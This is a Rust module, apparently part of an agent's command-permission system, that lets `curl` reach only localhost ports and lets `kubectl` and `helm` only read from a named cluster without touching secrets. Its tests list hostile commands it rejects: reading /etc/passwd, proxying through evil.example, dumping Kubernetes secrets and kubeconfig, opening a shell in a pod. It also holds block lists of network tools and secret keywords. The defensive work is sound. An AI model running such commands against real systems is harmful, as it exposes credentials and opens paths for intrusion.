//! Commands that talk to a service: which service it is, so that a rule can name it and leave the request open. A port
//! of this machine with `curl`, or a cluster with `kubectl`.

use super::programs::{base, has};

/// The names of this machine as a host.
pub(super) const THIS_MACHINE: [&str; 3] = ["localhost", "127.0.0.1", "[::1]"];
/// Options of `curl` that take no value, and send nothing elsewhere.
const CURL_FLAGS: &str =
    "--compressed --fail --get --head --include --no-progress-meter --show-error --silent --verbose";
const CURL_LETTERS: &str = "GISfisv";
/// Options of `curl` with a number.
const CURL_NUMBERS: &str = "--connect-timeout --max-time --retry --retry-delay -m";
/// Options of `curl` that give what is sent, which is read from a file if it begins with `@`.
const CURL_TEXTS: &str = "--data --data-raw --header --json -H -d";

/// The options that name a cluster, and those that only show it.
struct Cluster {
    context: &'static str,
    /// Options that take no value.
    flags: &'static str,
    /// Options whose value only narrows what is shown.
    values: &'static str,
    /// The output formats that are allowed.
    outputs: &'static str,
}

const KUBECTL: Cluster = Cluster {
    context: "--context",
    flags: "--all-containers --all-namespaces --containers --ignore-not-found --no-headers --prefix --previous --show-kind --show-labels --timestamps \
        --watch -A -w",
    values: "--container --field-selector --label-columns --namespace --selector --since --since-time --sort-by --tail --timeout -L -c -l -n",
    outputs: "json name wide yaml",
};
const HELM: Cluster = Cluster {
    context: "--kube-context",
    flags: "--all --all-namespaces --date --deployed --failed --no-headers --pending --reverse --short -A -a -d -q -r",
    values: "--filter --max --namespace --offset --revision --selector -l -m -n",
    outputs: "json table yaml",
};
/// Kinds of things that hold credentials, by a part of their name.
const SECRET_KINDS: [&str; 11] = [
    "apikey",
    "accesskey",
    "cred",
    "jwt",
    "keypair",
    "kubeconfig",
    "oauth",
    "passw",
    "secret",
    "token",
    "vault",
];

/// Programs whose operands are addresses, even if they look like a name in the folder: `evil.example/x`.
const TAKE_ADDRESSES: &str = "aria2c curl curlie dig ftp grpcurl host http https httpie hurl links lynx mosh nc ncat netcat nmap nslookup ping \
    rsync scp sftp socat telnet w3m websocat wget wget2 whois wscat xh xhs";

/// Returns the words that name the service of a command, if the command does only what a rule for that service allows:
/// any request to a port of this machine, or reading what a cluster has, except its secrets.
pub(super) fn named(words: &[String]) -> Option<Vec<String>> {
    let (program, after) = words.split_first()?;
    let after: Vec<&str> = after.iter().map(String::as_str).collect();
    let service = match program.as_str() {
        "curl" => vec![curl(&after)?],
        "helm" => helm(&after)?,
        "kubectl" => kubectl(&after)?,
        _ => return None,
    };
    Some(std::iter::once(program.clone()).chain(service).collect())
}

/// Returns whether a rule may name these words, and leave the request open.
pub(super) fn is_named<T: AsRef<str>>(words: &[T]) -> bool {
    let words: Vec<&str> = words.iter().map(AsRef::as_ref).collect();
    match words.as_slice() {
        ["curl", address] => origin(address).is_some_and(|origin| origin == *address),
        ["helm", "--kube-context", context] | ["kubectl", "--context", context] => is_name(context),
        _ => false,
    }
}

/// Returns whether the operands of a program are addresses.
pub(super) fn takes_addresses(program: &str) -> bool {
    has(TAKE_ADDRESSES, base(program))
}

/// Describes what else a command may be given under such a rule.
pub(super) fn left_open(program: &str) -> &'static str {
    if program == "curl" {
        " with any path, method, headers and data"
    } else {
        " for any read except secrets"
    }
}

/// Returns the port of this machine that `curl` talks to, if it reads and writes no file and follows no redirect
/// elsewhere.
fn curl(after: &[&str]) -> Option<String> {
    let mut address = None;
    let mut words = after.iter();
    while let Some(word) = words.next() {
        match *word {
            "-o" | "--output" => words.next().filter(|file| **file == "/dev/null").map(drop)?,
            "-X" | "--request" => words.next().filter(|method| is_method(method)).map(drop)?,
            // This option may also write to a file.
            "-w" | "--write-out" => {
                words
                    .next()
                    .filter(|format| !format.starts_with('@') && !format.contains("%output"))
                    .map(drop)?;
            }
            word if has(CURL_TEXTS, word) => {
                words.next().filter(|text| !text.starts_with(['@', '-'])).map(drop)?;
            }
            word if has(CURL_NUMBERS, word) => {
                words.next().filter(|number| number.bytes().all(|byte| byte.is_ascii_digit())).map(drop)?;
            }
            word if has(CURL_FLAGS, word) || is_group(word, CURL_LETTERS) => {}
            word if word.starts_with('-') || address.is_some() => return None,
            word => address = Some(word),
        }
    }
    origin(address?)
}

/// Returns an address up to its path, if it is one of this machine.
fn origin(address: &str) -> Option<String> {
    let (scheme, rest) = match address.split_once("://") {
        Some((scheme, rest)) if has("http https", scheme) => (scheme, rest),
        Some(_) => return None,
        None => ("http", address),
    };
    let authority = rest.split('/').next()?;
    let host = THIS_MACHINE.iter().find(|host| authority.starts_with(*host))?;
    let port = &authority[host.len()..];
    let is_port =
        |port: &str| !port.is_empty() && port.len() <= 5 && port.bytes().all(|byte| byte.is_ascii_digit());
    (port.is_empty() || port.strip_prefix(':').is_some_and(is_port))
        .then(|| format!("{scheme}://{authority}"))
}

fn is_method(word: &str) -> bool {
    !word.is_empty() && word.chars().all(|c| c.is_ascii_uppercase())
}

fn is_group(word: &str, letters: &str) -> bool {
    word.strip_prefix('-')
        .is_some_and(|group| !group.is_empty() && group.chars().all(|c| letters.contains(c)))
}

/// Returns the words that name the context in which `kubectl` reads from a cluster; none if it does more than read, or
/// uses whichever context is current.
fn kubectl(after: &[&str]) -> Option<Vec<String>> {
    let (context, operands) = in_context(after, &KUBECTL)?;
    let looks = match operands.as_slice() {
        ["get" | "describe", things @ ..] => !may_show_secret(things),
        ["logs" | "top" | "events" | "explain", ..]
        | ["api-resources" | "api-versions" | "cluster-info" | "version"]
        | ["rollout", "status" | "history", ..] => true,
        _ => false,
    };
    looks.then_some(context)
}

/// Returns the words that name the context in which `helm` shows what is installed, but not the values it was installed
/// with.
fn helm(after: &[&str]) -> Option<Vec<String>> {
    let (context, operands) = in_context(after, &HELM)?;
    // Any format but a table prints all of a release.
    let is_table = || !after.iter().any(|word| word.starts_with("-o") || word.starts_with("--output"));
    let looks = match operands.as_slice() {
        ["list" | "ls"] | ["history" | "hist", _] => true,
        ["status", _] => is_table(),
        _ => false,
    };
    looks.then_some(context)
}

/// Returns whether one of the things that are read may be a secret, by its kind or its name: `pods,secrets`,
/// `tokens.example.org/a`.
fn may_show_secret(things: &[&str]) -> bool {
    let mut kinds = things.iter().enumerate().flat_map(|(at, thing)| {
        let kinds = if at == 0 || thing.contains('/') { thing.split('/').next() } else { None };
        kinds.into_iter().flat_map(|kinds| kinds.split(',')).filter_map(|kind| kind.split('.').next())
    });
    let is_secret = |kind: &str| {
        let kind = kind.to_ascii_lowercase();
        SECRET_KINDS.iter().any(|part| kind.contains(part)) || kind.trim_end_matches('s').ends_with("key")
    };
    things.iter().any(|thing| thing.to_ascii_lowercase().contains("secret")) || kinds.any(is_secret)
}

/// Returns the words that name a cluster, and the operands; none if an option may do more than read, or if no cluster
/// is
/// named.
fn in_context<'a>(after: &[&'a str], cluster: &Cluster) -> Option<(Vec<String>, Vec<&'a str>)> {
    let (mut context, mut operands) = (None, Vec::new());
    let mut words = after.iter();
    while let Some(word) = words.next() {
        let (option, joined) = match word.split_once('=') {
            Some((option, value)) if word.starts_with("--") => (option, Some(value)),
            _ => (*word, None),
        };
        match option {
            option if option == cluster.context => {
                let name = joined.or_else(|| words.next().copied()).filter(|name| is_name(name))?;
                if context.replace(name.to_owned()).is_some() {
                    return None;
                }
            }
            "-o" | "--output" => {
                let output = joined.or_else(|| words.next().copied())?;
                let chooses = output.starts_with("jsonpath=") || output.starts_with("custom-columns=");
                if !has(cluster.outputs, output) && !chooses {
                    return None;
                }
            }
            // With other verbs this names a file.
            "-f" | "--follow" if operands.first() == Some(&"logs") => {}
            option if has(cluster.values, option) => {
                joined.or_else(|| words.next().copied()).filter(|value| !value.starts_with('-')).map(drop)?;
            }
            option if joined.is_none() && has(cluster.flags, option) => {}
            option if option.starts_with('-') => return None,
            _ => operands.push(*word),
        }
    }
    context.map(|name| (vec![cluster.context.to_owned(), name], operands))
}

fn is_name(word: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-.:/@".contains(c);
    word.starts_with(|c: char| c.is_ascii_alphanumeric()) && word.chars().all(is_plain)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rule::command;

    fn found(text: &str) -> Option<String> {
        named(&command::simple_words(text).unwrap()).map(|words| words.join(" "))
    }

    #[test]
    fn a_port_of_this_machine_is_what_curl_talks_to() {
        for (text, expected) in [
            ("curl -s http://localhost:3001/up", "curl http://localhost:3001"),
            ("curl localhost:8080", "curl http://localhost:8080"),
            (
                "curl -sS -i -X POST http://127.0.0.1:8787/a -H 'a: b' -d '{\"a\": 1}'",
                "curl http://127.0.0.1:8787",
            ),
            (
                "curl -s -o /dev/null -w '%{http_code}' 'http://localhost:3001/a?b=c&d'",
                "curl http://localhost:3001",
            ),
            ("curl -m 5 https://localhost/x", "curl https://localhost"),
        ] {
            assert_eq!(found(text).as_deref(), Some(expected), "{text}");
            assert!(is_named(&named(&command::simple_words(text).unwrap()).unwrap()), "{text}");
        }
        for text in [
            "curl",
            "curl https://example.com",
            "curl http://localhost.example.com/",
            "curl http://localhost:3001@example.com/",
            "curl http://localhost:x/",
            "curl 'http://localhost:3001?@example.com/'",
            "curl http://a@localhost:3001/",
            "curl file:///etc/passwd",
            "curl http://localhost:1/ http://example.com/",
            "curl -L http://localhost:1/",
            "curl -d @/etc/passwd http://localhost:1/",
            "curl -H @x http://localhost:1/",
            "curl -F a=@x http://localhost:1/",
            "curl -T x http://localhost:1/",
            "curl -K x http://localhost:1/",
            "curl -o x http://localhost:1/",
            "curl -O http://localhost:1/x",
            "curl -w '%output{x}a' http://localhost:1/",
            "curl -w @x http://localhost:1/",
            "curl -x evil.example http://localhost:1/",
            "curl --unix-socket /run/docker.sock http://localhost/",
            "curl --connect-to ::evil.example: http://localhost:1/",
            "curl --resolve localhost:1:1.2.3.4 http://localhost:1/",
            "curl -b x http://localhost:1/",
            "curl --next http://localhost:1/",
            "curl -d --output http://localhost:1/",
        ] {
            assert_eq!(found(text), None, "{text}");
        }
    }

    #[test]
    fn what_only_looks_at_a_cluster_goes_by_its_context() {
        for (text, expected) in [
            ("kubectl --context kind-dev -n web get pods -o wide", "kubectl --context kind-dev"),
            ("kubectl -n web logs deploy/web --tail=50 -f --context=kind-dev", "kubectl --context kind-dev"),
            ("kubectl --context a rollout status deploy/web --timeout=60s", "kubectl --context a"),
            ("kubectl --context a describe pod -l app=web", "kubectl --context a"),
            ("kubectl --context a get events --sort-by=.lastTimestamp -A", "kubectl --context a"),
            ("kubectl --context a logs -l app=worker --since=10m --prefix", "kubectl --context a"),
            ("kubectl --context a get pod token-service monkeys", "kubectl --context a"),
            ("helm list -n web --kube-context dev", "helm --kube-context dev"),
            ("helm --kube-context=dev history web --max 5 -o json", "helm --kube-context dev"),
            ("helm --kube-context dev status web -n web", "helm --kube-context dev"),
        ] {
            assert_eq!(found(text).as_deref(), Some(expected), "{text}");
        }
        for text in [
            "kubectl",
            "kubectl get pods",
            "kubectl --context a delete pod x",
            "kubectl --context a get secrets",
            "kubectl --context a get secret/x -o yaml",
            "kubectl --context a get pods,Secrets",
            "kubectl --context a get --raw /api/v1/secrets",
            "kubectl --context a get -f x.yaml",
            "kubectl --context a get pods -o go-template-file=/etc/x",
            "kubectl --context a get pods -o jsonpath-file=x",
            "kubectl --context a --kubeconfig x get pods",
            "kubectl --context a --context a --context b get pods",
            "kubectl --context a exec web -- sh",
            "kubectl --context a rollout restart deploy/web",
            "kubectl --context a config view --raw",
            "kubectl --context a config use-context prod",
            "kubectl --context a apply -f x",
            "kubectl --context a get pods --token=x",
            "kubectl --context a -s http://evil.example get pods",
            "kubectl --context a logs web -n --context",
            "kubectl --context a get tokens.management.cattle.io -o yaml",
            "kubectl --context a get pods apikeys/web",
            "kubectl --context a get pods,SSHKeys",
            "kubectl --context a describe credentials",
            "helm list",
            "helm list --context a",
            "helm --kube-context a --kube-context b list",
            "helm --kube-context a get values web",
            "helm --kube-context a status web -ojson",
            "helm --kube-context a status web --output=yaml",
            "helm --kube-context a upgrade web charts/web",
            "helm --kube-context a list --kubeconfig x",
        ] {
            assert_eq!(found(text), None, "{text}");
        }
    }
}
